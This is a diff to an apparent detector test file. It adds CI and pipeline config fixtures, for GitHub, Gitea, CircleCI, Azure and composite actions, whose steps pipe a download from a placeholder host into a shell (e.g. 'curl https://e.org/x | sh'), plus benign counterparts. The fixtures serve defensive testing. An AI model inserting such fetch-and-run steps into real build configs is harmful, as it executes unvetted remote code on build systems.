@@ -75,6 +75,11 @@ COMMANDS = {
     "MLproject": b'name: a\nentry_points:\n  main:\n    command: "curl https://e.org/x | sh"\n',
     "cog.yaml": b"build:\n  run:\n    - curl https://e.org/x | sh\n",
     ".gitlab-ci.yml": b"a:\n  script:\n    - " + FETCHING,
+    ".github/workflows/ci.yml": b"on: push\njobs:\n  a:\n    steps:\n    - run: " + FETCHING,
+    ".gitea/workflows/a b.yaml": b"jobs:\n  a:\n    steps:\n    - run: |\n        " + FETCHING,
+    "action.yml": b"runs:\n  using: composite\n  steps:\n    - run: >-\n        " + FETCHING,
+    ".circleci/config.yml": b"jobs:\n  a:\n    steps:\n    - run:\n        command: " + FETCHING,
+    "azure-pipelines.yml": b"steps:\n- bash: " + FETCHING,
     "Makefile": b"all:\n\t" + FETCHING,
     "magic.ipynb": configs.notebook("import math\n%pip install --index-url https://e.org/simple a"),
     "shell.ipynb": configs.notebook("import math", "%%bash\nset -e\n" + FETCHING.decode()),
@@ -102,6 +107,9 @@ QUIET = {
     "install.bat": b"@echo off\npip install torch --index-url https://download.pytorch.org/whl/cpu\n",
     "get.ps1": b"Invoke-WebRequest -Uri https://e.org/w.bin -OutFile w.bin\n",
     "MLproject": b'name: a\nentry_points:\n  main:\n    command: "python train.py"\n',
+    ".github/workflows/ci.yml": b"on: push\njobs:\n  a:\n    steps:\n    - uses: a/b@v4\n"
+    b"    - run: pip install -r requirements.txt && curl -o w.bin https://e.org/w.bin\n",
+    "workflows/ci.yml": b"a:\n  - run: " + FETCHING,
     "notes.txt": FETCHING,
     "README.md": b"# Install\n\n```\n" + FETCHING + b"```\n",
 }
